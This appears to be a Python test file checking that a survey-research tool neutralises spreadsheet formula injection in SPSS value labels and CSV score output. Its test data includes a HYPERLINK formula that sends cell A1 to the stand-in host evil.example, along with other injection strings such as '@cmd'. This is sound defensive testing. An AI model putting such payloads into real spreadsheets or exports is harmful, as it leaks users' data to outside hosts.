"""Formula injection: SPSS value labels and ``inclusief score --format csv`` are neutralised
by the same helper as the export CSV (:mod:`inclusief.safecells`)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyreadstat
from research_factories import make_rows

from inclusief.cli import main
from inclusief.questionnaires.load import load_text
from inclusief.research import tabular
from inclusief.research.export import build_export, write_sav_file
from inclusief.safecells import neutralise

HERE = Path(__file__).parent
EVIL_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"Eens")'


def test_one_shared_helper() -> None:
    from inclusief.jobcarving import inventory

    assert tabular.neutralise is neutralise
    assert inventory._safe("=1+1") == neutralise("=1+1") == "'=1+1"


def test_spss_value_labels_are_neutralised(tmp_path: Path) -> None:
    text = (HERE / "research_q.yaml").read_text(encoding="utf-8")
    text = text.replace(
        "{nl: Eens, en: Agree}", "{nl: '" + EVIL_LABEL.replace("'", "''") + "', en: Agree}"
    )
    text = text.replace("{nl: Weet niet, en: Don't know}", "{nl: '@SUM(A1)', en: Don't know}")
    q = load_text(text, file="q.yaml")
    export = build_export(questionnaire=q, rows=make_rows(400, n_orgs=300), k=5)
    path = write_sav_file(export, tmp_path / "x.sav")
    _data, meta = pyreadstat.read_sav(str(path))
    labels = meta.variable_value_labels["c1"]
    assert labels[4] == "'" + EVIL_LABEL
    assert labels[9] == "'@SUM(A1)"
    assert labels[1] == "Helemaal oneens"
    every = [v for vl in meta.variable_value_labels.values() for v in vl.values()]
    assert not any(str(v).startswith(("=", "+", "@", "\t", "\r")) for v in every)


def test_score_csv_neutralises_respondent_ids_and_band_labels(tmp_path: Path, capsys) -> None:
    mini = (HERE.parent / "questionnaires" / "mini.yaml").read_text(encoding="utf-8")
    responses = tmp_path / "r.csv"
    responses.write_text(
        'respondent_id,a1,a2,a3,b1,b2\n"=HYPERLINK(""http://x"",""klik"")",5,2,9,2,3\n'
        "-3,1,1,1,1,1\n@cmd,2,2,2,2,2\n",
        encoding="utf-8",
    )
    qfile = tmp_path / "q.yaml"
    qfile.write_text(mini, encoding="utf-8")
    assert main(["score", "-q", str(qfile), str(responses)]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    ids = [r[0] for r in rows[1:]]
    assert ids == ['\'=HYPERLINK("http://x","klik")', "-3", "'@cmd"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
